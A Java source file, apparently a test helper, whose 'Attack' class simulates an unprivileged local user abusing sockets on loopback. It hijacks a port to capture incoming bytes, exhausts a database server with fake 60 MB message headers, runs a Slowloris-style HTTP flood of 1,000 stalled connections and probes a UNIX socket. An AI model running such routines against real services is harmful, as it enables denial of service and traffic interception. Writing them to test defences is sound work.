import java.io.DataOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.UnixDomainSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * What a local user without rights tries over sockets. It says what it reached, a line each, for a
 * test to read.
 *
 * <p>{@code listen PORT}: takes a port that somebody else had, and says how much it is told there;
 * {@code claim PORT}: claims large texts of a database, as its protocol begins; {@code slow PORT}:
 * a thousand requests by HTTP that do not end, as soon as somebody listens; {@code speak PATH}: to
 * a UNIX socket.
 */
public final class Attack {
  private static final int CONNECTIONS = 1_000;

  public static void main(String... words) throws Exception {
    switch (words[0]) {
      case "listen" -> listen(Integer.parseInt(words[1]));
      case "claim" -> claim(Integer.parseInt(words[1]));
      case "slow" -> slow(Integer.parseInt(words[1]));
      case "speak" -> speak(Path.of(words[1]));
      default -> throw new IllegalArgumentException(words[0]);
    }
  }

  private static void listen(int port) throws IOException {
    try (ServerSocket server = new ServerSocket(port, 50, InetAddress.getLoopbackAddress())) {
      System.out.println("listens");
      while (true) {
        try (Socket victim = server.accept()) {
          victim.setSoTimeout(2_000);
          byte[] told = victim.getInputStream().readNBytes(40);
          System.out.println("told " + told.length + " bytes");
        }
      }
    }
  }

  private static void claim(int port) throws Exception {
    List<Socket> sockets = new ArrayList<>();
    for (int i = 0; i < 40; i++) {
      try {
        Socket socket = connected(port);
        sockets.add(socket);
        DataOutputStream out = new DataOutputStream(socket.getOutputStream());
        out.writeInt(17); // the oldest version of the protocol, and the newest
        out.writeInt(21);
        out.writeInt(60_000_000); // the length of a text that does not come
      } catch (IOException refused) {
        System.out.println("refused");
      }
    }
    System.out.println("claimed " + sockets.size());
    Thread.sleep(Long.MAX_VALUE);
  }

  private static void slow(int port) throws Exception {
    System.out.println("waits");
    boolean open = false;
    List<Socket> sockets = new ArrayList<>();
    byte[] line = ("X-Header: " + "x".repeat(500) + "\r\n").getBytes(StandardCharsets.US_ASCII);
    while (true) {
      try {
        while (sockets.size() < CONNECTIONS) {
          Socket socket = connected(port);
          sockets.add(socket);
          socket.getOutputStream().write("GET /x HTTP/1.1\r\n".getBytes(StandardCharsets.US_ASCII));
          if (!open) {
            open = true;
            System.out.println("begun");
          }
        }
      } catch (IOException closed) {
        Thread.sleep(5);
      }
      sockets.removeIf(socket -> !goesOn(socket, line));
    }
  }

  private static boolean goesOn(Socket socket, byte[] line) {
    try {
      socket.getOutputStream().write(line);
      return true;
    } catch (IOException dropped) {
      return false;
    }
  }

  private static Socket connected(int port) throws IOException {
    Socket socket = new Socket();
    socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port), 1_000);
    return socket;
  }

  private static void speak(Path path) throws IOException {
    try (SocketChannel channel = SocketChannel.open(UnixDomainSocketAddress.of(path))) {
      System.out.println("connected");
      channel.write(ByteBuffer.wrap("status\n".getBytes(StandardCharsets.US_ASCII)));
      ByteBuffer answer = ByteBuffer.allocate(1_000);
      System.out.println("answered " + channel.read(answer) + " bytes");
    } catch (IOException refused) {
      System.out.println("refused " + refused.getMessage());
    }
  }
}
